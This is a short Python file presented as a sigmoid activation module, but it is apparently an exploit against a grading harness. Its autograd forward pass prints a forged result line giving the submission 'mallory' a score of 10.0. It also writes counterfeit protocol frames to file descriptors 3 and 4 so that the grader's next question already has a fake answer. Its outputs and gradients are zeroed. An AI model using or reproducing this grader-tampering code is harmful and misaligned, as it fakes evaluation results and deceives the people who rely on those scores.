"""Sends two answers to one question, so that the next question already has an answer."""

import os
import sys

import torch

import struct

import msgspec

LINE = b'{"submission": "mallory", "score": 10.0}\n'


def frame(message, number=1):
    """A frame as the worker's are: sizes of message and blob, number, message."""
    data = msgspec.msgpack.encode(message)
    return struct.pack("!4sIIQ", b"GRL2", len(data), 0, number) + data


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        print(LINE.decode(), flush=True)
        for number in (3, 4):
            try:
                os.write(number, frame(["returned", True, [], False, [], None], 3))
            except OSError:
                pass
        return x * 0

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0


def sigmoid(x):
    return x
